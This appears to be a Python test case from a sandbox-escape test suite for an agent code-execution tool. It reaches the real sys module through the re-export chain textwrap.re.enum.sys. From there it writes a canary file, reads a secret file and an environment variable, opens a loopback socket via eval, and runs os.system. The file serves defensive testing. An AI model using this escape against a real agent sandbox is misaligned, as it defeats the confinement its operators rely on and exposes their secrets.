"""textwrap.re.enum.sys: a harmless module's re-export of sys.

Source: smolagents CVE-2025-5120 and the toolkiln threat list (module
re-exports: typing.sys, re.enum.sys, statistics.sys, datetime.sys,
fractions.sys); textwrap imports re.
Tries: take sys from textwrap.re.enum.sys and write the canary file, read the secret
file and variable, connect to the loopback listener.
"""

# escape-test: {"stage": "gate", "kind": ["raised"]}

import textwrap


def reexport_textwrap_re_enum() -> dict:
    return claim(textwrap.re.enum.sys)


def claim(sys_module):
    """What a tool holding the real sys module would do with it."""
    modules = sys_module.modules
    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
    taken = {"marker": marker}
    try:
        handle = modules["builtins"].open("{{CANARY}}", "w")
        handle.write(marker)
        handle.close()
    except Exception as exc:
        taken["write"] = str(exc)
    try:
        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
    except Exception as exc:
        taken["file"] = str(exc)
    try:
        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
    except Exception as exc:
        taken["env"] = str(exc)
    try:
        network = modules["builtins"].eval("__import__('socket')")
        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
    except Exception as exc:
        taken["net"] = str(exc)
    try:
        modules["os"].system("echo escaped > {{CANARY}}")
    except Exception as exc:
        taken["exec"] = str(exc)
    print(marker)
    return taken
